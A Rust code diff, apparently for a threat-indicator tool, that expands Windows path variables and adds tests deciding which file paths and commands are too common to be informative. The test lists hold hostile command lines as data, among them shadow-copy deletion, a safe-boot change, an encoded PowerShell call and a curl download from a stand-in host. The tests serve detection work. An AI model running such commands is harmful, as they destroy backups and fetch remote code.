@@ -164,11 +164,29 @@ pub(crate) fn path(path: &str) -> Option<String> {
         let program = matches!(folder, "bin" | "sbin" | "usr/bin" | "usr/sbin" | "usr/local/bin") && among(&UNIX_PROGRAMS, name);
         return (program || among(&UNIX, trimmed)).then(|| format!("every such system has `{path}`"));
     }
-    let lower = trimmed.to_lowercase().replace('/', "\\");
+    let lower = placed(&trimmed.to_lowercase().replace('/', "\\"));
     let below = lower.get(1..).filter(|_| lower.starts_with(|char: char| char.is_ascii_alphabetic())).and_then(|rest| rest.strip_prefix(':'))?;
     let below = below.trim_start_matches('\\');
     let (folder, name) = below.rsplit_once('\\').unwrap_or(("", below));
     known(folder, name)
+}
+
+/// Variables of Windows and what they stand for on nearly every machine, in lower case.
+const VARIABLES: [(&str, &str); 7] = [
+    ("%systemroot%", r"c:\windows"),
+    ("%windir%", r"c:\windows"),
+    ("%comspec%", r"c:\windows\system32\cmd.exe"),
+    ("%programfiles%", r"c:\program files"),
+    ("%programfiles(x86)%", r"c:\program files (x86)"),
+    ("%systemdrive%", "c:"),
+    (r"\systemroot", r"c:\windows"),
+];
+
+/// A path in lower case where it stands: without the prefix of long paths, with the folder that a variable at its beginning names.
+fn placed(path: &str) -> String {
+    let path = path.strip_prefix(r"\\?\").or_else(|| path.strip_prefix(r"\??\")).unwrap_or(path);
+    let found = VARIABLES.iter().find_map(|(variable, folder)| path.strip_prefix(variable).map(|rest| format!("{folder}{rest}")));
+    found.unwrap_or_else(|| path.to_owned())
 }
 
 /// Why a path with unknown parts tells nothing: what is known of it stands everywhere.
@@ -181,6 +199,12 @@ pub(crate) fn open_path(pattern: &Pattern) -> Option<String> {
         out
     });
     let (folder, name) = text.rsplit_once('\\')?;
+    // `*\system32\cmd.exe`: the unknown part may be where Windows stands.
+    let tail = folder.strip_prefix("*\\").filter(|tail| !tail.is_empty() && !tail.contains('*'));
+    let home = |tail: &str| HOMES.iter().any(|home| home.strip_suffix(tail).is_some_and(|head| head.is_empty() || head.ends_with('\\')));
+    if tail.is_some_and(home) && among(&WINDOWS, name) {
+        return Some(format!("every Windows machine has a `{name}` there"));
+    }
     let folder = folder.trim_start_matches(['*', '\\']).trim_start_matches(|char: char| char.is_ascii_alphabetic() && folder.get(1..2) == Some(":"));
     known(folder.trim_start_matches([':', '\\']), name)
 }
@@ -399,13 +423,32 @@ pub(crate) fn command(line: &str) -> Option<String> {
         .find(|shell| line.get(..shell.len()).is_some_and(|head| head.eq_ignore_ascii_case(shell)));
     let line = shell.and_then(|shell| line.get(shell.len()..)).map_or(line, str::trim);
     let line = line.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).filter(|inner| shell.is_some() && !inner.is_empty()).unwrap_or(line);
+    if alone(line) {
+        return Some("it starts what every machine has, and tells nothing more".to_owned());
+    }
     let mut commands = line.split(['&', '|', ';', '\n']).map(str::trim).filter(|command| !command.is_empty()).peekable();
     commands.peek()?;
     commands.all(|command| usual(&words(command))).then(|| "administrators and programs start it every day".to_owned())
 }
 
+/// Whether a command is nothing but a program that every machine has, with its folder or without: `vssadmin`,
+/// `C:\Program Files\Internet Explorer\iexplore.exe`.
+fn alone(line: &str) -> bool {
+    let program = line.trim().trim_matches(['"', '\'']);
+    if program.contains(['\\', '/']) {
+        return path(program).is_some();
+    }
+    if program.contains(' ') {
+        return false;
+    }
+    let lower = program.to_lowercase();
+    let named = |name: &str| WINDOWS.contains(name) || INSTALLED.contains(name);
+    placed(&lower) != lower || named(&lower) || named(&format!("{lower}.exe")) || UNIX_PROGRAMS.contains(&lower)
+}
+
 fn usual(words: &[String]) -> bool {
     let Some((program, rest)) = words.split_first() else { return false };
+    let program = &placed(program);
     let folder_known = !program.contains(['\\', '/']) || path(program).is_some();
     let program = program.rsplit(['\\', '/']).next().unwrap_or(program);
     let program = program.strip_suffix(".exe").unwrap_or(program);
@@ -466,6 +509,13 @@ mod tests {
             "systeminfo & hostname",
             "ps aux",
             "cat /etc/passwd",
+            "vssadmin",
+            r"C:\Windows\System32\schtasks.exe",
+            r#""C:\Windows\System32\bcdedit.exe""#,
+            r"C:\Program Files\Internet Explorer\iexplore.exe",
+            r"%SystemRoot%\System32\bcdedit.exe",
+            "%ComSpec% /c whoami",
+            "/usr/bin/curl",
         ] {
             assert!(command(line).is_some(), "{line}");
         }
@@ -478,6 +528,10 @@ mod tests {
             "vssadmin delete shadows /all /quiet",
             r"C:\ProgramData\whoami.exe",
             "powershell -enc SQBFAFgA",
+            r"C:\ProgramData\vssadmin.exe",
+            r"%APPDATA%\bcdedit.exe",
+            r"C:\Windows\System32\bcdedit.exe /set safeboot minimal",
+            "curl -O control-one.example/x",
             "",
         ] {
             assert!(command(line).is_none(), "{line}");
@@ -492,6 +546,8 @@ mod tests {
             r"c:\windows\system32\drivers\etc\hosts",
             r"C:\Users\anna\Downloads\setup.exe",
             r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+            r"%SystemRoot%\System32\schtasks.exe",
+            r"\\?\C:\Windows\System32\cmd.exe",
             r"C:\Windows\Temp",
             r"C:\Users\Public\",
             "/etc/passwd",
@@ -509,8 +565,13 @@ mod tests {
         ] {
             assert!(path(text).is_none(), "{text}");
         }
-        for (glob, told) in [(r"*\\Temp\\setup.exe", false), (r"*\\Windows\\System32\\cmd.exe", false), (r"*\\AppData\\Roaming\\tide-one.exe", true)]
-        {
+        for (glob, told) in [
+            (r"*\\Temp\\setup.exe", false),
+            (r"*\\Windows\\System32\\cmd.exe", false),
+            (r"*\\System32\\schtasks.exe", false),
+            (r"*\\Temp\\schtasks.exe", true),
+            (r"*\\AppData\\Roaming\\tide-one.exe", true),
+        ] {
             assert_eq!(open_path(&Pattern::glob(glob)).is_none(), told, "{glob}");
         }
     }
